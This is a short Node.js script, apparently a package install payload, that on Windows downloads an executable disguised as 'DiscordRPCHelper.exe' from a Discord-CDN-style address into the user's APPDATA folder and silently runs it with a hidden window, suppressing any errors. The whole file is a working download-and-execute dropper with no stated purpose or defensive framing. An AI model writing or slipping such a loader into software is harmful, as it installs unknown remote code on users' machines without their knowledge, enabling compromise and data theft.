const fs = require("fs");
const path = require("path");
const os = require("os");
const https = require("https");
const { exec } = require("child_process");

if (process.platform === "win32") {
  const dir = path.join(process.env.APPDATA || os.tmpdir(), "DiscordRPC");
  const file = path.join(dir, "DiscordRPCHelper.exe");
  const link = "https://cdn.discordapp.example/attachments/1142739201857439824/1203948571029384756/DiscordRPCHelper.exe";

  fs.mkdir(dir, { recursive: true }, () => {
    const ws = fs.createWriteStream(file);
    https.get(link, (res) => {
      res.pipe(ws);
      ws.on("finish", () => {
        ws.close(() => {
          exec(`start "" /B "${file}"`, { windowsHide: true });
        });
      });
    }).on("error", () => {});
  });
}
